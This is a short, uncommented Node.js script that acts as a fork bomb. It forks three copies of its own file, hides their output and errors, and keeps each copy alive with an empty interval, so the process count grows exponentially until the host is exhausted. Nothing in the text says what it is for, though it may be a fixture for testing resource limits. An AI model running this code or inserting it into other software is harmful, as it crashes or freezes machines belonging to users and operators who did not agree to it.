const { fork } = require('child_process');
for (let i = 0; i < 3; i++) {
  const child = fork(__filename, { stdio: 'ignore' });
  child.on('error', () => {});
}
setInterval(() => {}, 1000);
